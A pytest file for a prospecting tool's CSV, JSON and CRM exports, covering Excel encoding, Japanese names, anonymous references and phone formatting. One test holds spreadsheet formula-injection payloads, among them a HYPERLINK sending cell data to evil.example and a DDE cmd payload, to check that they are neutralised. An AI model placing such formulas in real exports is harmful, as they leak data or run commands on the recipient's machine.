"""Export: the CSV call list opens in Excel (BOM, Japanese), is formula-safe; JSON; settings beside."""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import built_db

from spider.export import (
    CALL_LIST_COLUMNS,
    safe_cell,
    safe_phone,
    to_csv,
    to_json,
    to_table,
    write_export,
)
from spider.settings import Settings

COLUMNS = [
    "rank",
    "company",
    "local_name",
    "phone",
    "website",
    "address",
    "city",
    "region",
    "postal_code",
    "segment",
    "score",
    "priority",
    "reasons",
    "reference",
    "opening_line",
    "ask_for",
    "contact",
    "contact_role",
    "sources",
    "owner",
    "contact_source",
]


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_has_the_exact_columns_and_one_row_per_prospect(expanded, seeded_db):
    expansion = expanded("Tokyo five-star hotel", limit=25)
    text = to_csv(seeded_db, expansion)
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header == COLUMNS == list(CALL_LIST_COLUMNS)
    rows = parse(text)
    assert [int(r["rank"]) for r in rows] == list(range(1, 26))
    for row, p in zip(rows, expansion.prospects, strict=True):
        assert row["company"] == p.name and row["priority"] == p.priority
        assert row["opening_line"] == p.opening_line and row["ask_for"] == p.ask_for
        assert row["reasons"] and row["segment"] and row["sources"]
        assert float(row["score"]) == pytest.approx(p.score, abs=1e-6)
    assert "\r\n" in text  # Excel's line ending


def test_csv_round_trips_japanese_text(tmp_path, expanded, seeded_db):
    expansion = expanded("Tokyo five-star hotel", limit=25)
    path = write_export(seeded_db, expansion, Settings(), "csv", tmp_path / "call list.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    japanese = [
        r for r in rows if any("\u3040" <= ch <= "\u9fff" for ch in r["company"] + r["local_name"])
    ]
    assert japanese, "the Tokyo list carries Japanese names"
    by_rank = {p.rank: p for p in expansion.prospects}
    for row in rows:
        p = by_rank[int(row["rank"])]
        assert (row["company"], row["local_name"], row["address"]) == (
            p.name,
            p.name_local,
            p.address,
        )


def test_csv_without_bom_on_request(expanded, seeded_db):
    assert not to_csv(seeded_db, expanded("Toyota Motor", limit=3), bom=False).startswith("\ufeff")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "+81 3-3211-5211",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",
        "＋81-3-1234-5678",
    ],
)
def test_formula_like_cells_are_neutralised(expanded, value, seeded_db):
    expansion = expanded("Palace Hotel Tokyo", limit=3)
    p = expansion.prospects[0]
    p.name, p.phone, p.website, p.address, p.opening_line = value, value, value, value, value
    row = parse(to_csv(seeded_db, expansion))[0]
    for column in ("company", "website", "address", "opening_line"):
        assert row[column] == "'" + value, column
    assert safe_cell(value) == "'" + value
    # A phone number is written so that no spreadsheet reads a formula and no quote shows.
    assert row["phone"] == safe_phone(value)
    assert not row["phone"].startswith(("=", "+", "-", "@", "\t", "\uff1d", "\uff0b", "\uff0d"))


@pytest.mark.parametrize("phone, written", [
    ("+81 3-3211-5211", "(+81) 3-3211-5211"), ("+1 (212) 555-0101", "(+1) (212) 555-0101"),
    ("+81332115211", "(+81332115211)"), ("03-3211-5211", "03-3211-5211"),
    ("+1-800-FLOWERS", "'+1-800-FLOWERS")])
def test_phones_are_written_for_excel_and_crms_alike(phone, written):
    assert safe_phone(phone) == written


@pytest.mark.parametrize("value", ["Palace Hotel Tokyo", "03-3211-5211", "パレスホテル東京", "", 7])
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_reference_column_marks_an_anonymous_client(expanded, seeded_db):
    expansion = expanded("Palace Hotel Tokyo", limit=2)
    named, anonymous = expansion.prospects
    named.reference = {"company_id": 1, "name": "Aman Tokyo", "referenceable": True}
    anonymous.reference = {"company_id": 2, "name": "Hotel Chinzanso Tokyo", "referenceable": False}
    rows = parse(to_csv(seeded_db, expansion))
    assert rows[0]["reference"] == "Aman Tokyo"
    # A client who did not agree to be named is not named in a file that may travel.
    assert rows[1]["reference"] == "anonymous: won client #2 (not to be named)"
    assert "Chinzanso" not in to_csv(seeded_db, expansion)


def test_settings_are_written_beside_every_export(tmp_path, expanded, seeded_db):
    expansion = expanded("Toyota Motor", limit=5)
    settings = Settings(language="en", limit=5)
    path = write_export(seeded_db, expansion, settings, "json", tmp_path / "out" / "toyota.json")
    beside = json.loads(
        (tmp_path / "out" / "toyota.json.settings.json").read_text(encoding="utf-8")
    )
    assert beside["query"] == "Toyota Motor" and beside["run_id"] == expansion.run_id
    assert beside["settings"] == json.loads(settings.to_json())
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["query"] == "Toyota Motor" and doc["kind"] == "company"
    assert [p["company_id"] for p in doc["prospects"]] == [
        p.company_id for p in expansion.prospects
    ]
    assert all(r["evidence"] and r["signal"] for p in doc["prospects"] for r in p["reasons"])


def test_default_export_path_is_under_the_output_dir(tmp_path, expanded, seeded_db):
    expansion = expanded("東京 5つ星ホテル", limit=3)
    path = write_export(seeded_db, expansion, Settings(output_dir=str(tmp_path / "output")), "csv", None)
    assert path.parent == tmp_path / "output" and path.suffix == ".csv"
    assert path.with_name(path.name + ".settings.json").exists()


def test_unwritable_path_is_an_input_error(tmp_path, expanded, seeded_db):
    from spider.errors import InputError

    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(InputError, match="cannot write"):
        write_export(seeded_db, expanded("Toyota Motor", limit=1), Settings(), "csv", blocker / "out.csv")


def test_json_and_table_carry_the_same_prospects(expanded, seeded_db):
    expansion = expanded("Tokyo five-star hotel zzzqx", limit=5)
    doc = json.loads(to_json(seeded_db, expansion))
    assert doc["ignored"] == ["zzzqx"] and doc["kind"] == "segment"
    assert [f["label"] for f in doc["facets"]] and len(doc["prospects"]) == 5
    table = to_table(seeded_db, expansion, width=100)
    for p in expansion.prospects:
        assert p.name in table and p.opening_line.split()[0] in table


def test_json_does_not_name_an_anonymous_reference(expanded, seeded_db):
    expansion = expanded("Palace Hotel Tokyo", limit=1)
    expansion.prospects[0].reference = {
        "company_id": 2,
        "name": "Hotel Chinzanso Tokyo",
        "referenceable": False,
    }
    assert "Chinzanso" not in to_json(seeded_db, expansion)


def test_a_score_too_small_for_its_decimals_is_never_printed_as_zero() -> None:
    """A national register spreads the walk's mass thin: 0.0000 for every prospect says
    nothing of their order."""
    from spider.export import score_text

    assert score_text(0.0055, 4) == "0.0055"
    assert score_text(0.0000412, 4) == "4.1e-05"
    assert score_text(0.000000123456, 6) == "1.235e-07"
    assert score_text(0.0, 4) == "0.0000"


def test_a_register_in_capitals_is_shown_as_a_rep_says_it():
    from spider.text import display_names

    def shown(name: str) -> str:
        return display_names({"name": name, "id": 1}, "en")["name"]

    assert shown("ELK GROVE ROOFING CO") == "Elk Grove Roofing Co"  # elk is a word
    assert shown("FRESNO VALLEY HVAC INC") == "Fresno Valley HVAC Inc"  # HVAC is an acronym
    assert shown("NORTHSIDE CPA PLLC") == "Northside CPA PLLC"
    assert shown("MARQUÉS DE CÁCERES") == "Marqués de Cáceres"  # accents: had stayed in capitals


def test_a_crm_industry_column_holds_the_kind_without_the_place(tmp_path):
    import csv as csvlib
    import io

    from spider.expand import expand
    from spider.export import to_profile_csv
    from spider.profiles import load_profile
    from spider.settings import Settings

    db = built_db(tmp_path, "cava.csv",
                  "Nombre;Actividad;Localidad;Provincia\n"
                  "Gramona;Elaboración de cava;Sant Sadurní d'Anoia;Barcelona\n"
                  "Raventós i Blanc;Elaboración de cava;Sant Sadurní d'Anoia;Barcelona\n"
                  "Codorníu;Elaboración de cava;Sant Sadurní d'Anoia;Barcelona\n")
    lookalikes = expand(db, Settings(), "Gramona", limit=5, save=False)
    for name in ("salesforce", "hubspot"):
        rows = list(csvlib.DictReader(io.StringIO(
            to_profile_csv(db, lookalikes, load_profile(name)).lstrip("\ufeff"))))
        # (it had been "Elaboración de cava, Sant Sadurní d'Anoia, Barcelona")
        assert {row["Industry"] for row in rows} == {"Elaboración de cava"}, rows


def test_a_crm_file_leaves_out_a_domain_several_rows_share_and_files_no_honorific():
    """Three sites of one care operator had one Company Domain Name: HubSpot, which
    de-duplicates companies by domain, would fold them into one. A Japanese list's role to
    ask for was filed as 施設長様 (the honorific is said, not filed)."""
    from spider.profiles import load_profile, profile_rows

    rows = [{"company": "ツクイ横浜港北", "website": "https://www.tsukui.net/a", "ask_for": "施設長様におつなぎいただけますでしょうか"},
            {"company": "ツクイ横浜大倉山", "website": "https://www.tsukui.net/b", "ask_for": ""},
            {"company": "樽町ひかり", "website": "https://hikari.example.jp/", "ask_for": ""}]
    hubspot = profile_rows(rows, load_profile("hubspot"))
    assert [r["Company Domain Name"] for r in hubspot] == ["", "", "hikari.example.jp"]
    # (a company HubSpot has, matched by its domain, keeps its own Description: the pitch
    # goes to a column of Spider's)
    assert "Description" not in hubspot[0] and "Spider notes" in hubspot[0]
    salesforce = profile_rows(rows[:1], load_profile("salesforce"))
    assert salesforce[0]["Title"] == "施設長"


def test_a_call_list_for_an_excel_set_to_french_is_semicolon_separated(tmp_path, expanded,
                                                                        seeded_db):
    """csv_delimiter = ";" in spider.toml: the call list a French, German or Spanish Excel
    opens in its columns (a comma file opened in one); a delimiter no spreadsheet uses is
    refused in one line naming the file."""
    from spider.errors import InputError
    from spider.settings import load_settings

    (tmp_path / "spider.toml").write_text('[spider]\ncsv_delimiter = ";"\n', encoding="utf-8")
    settings = load_settings(tmp_path / "spider.toml")
    expansion = expanded("Toyota Motor", limit=5)
    path = write_export(seeded_db, expansion, settings, "csv", tmp_path / "toyota.csv")
    text = path.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert list(rows[0]) == COLUMNS and len(rows) == len(expansion.prospects)
    (tmp_path / "bad.toml").write_text('[spider]\ncsv_delimiter = "x"\n', encoding="utf-8")
    with pytest.raises(InputError, match="bad.toml.*csv_delimiter"):
        load_settings(tmp_path / "bad.toml")
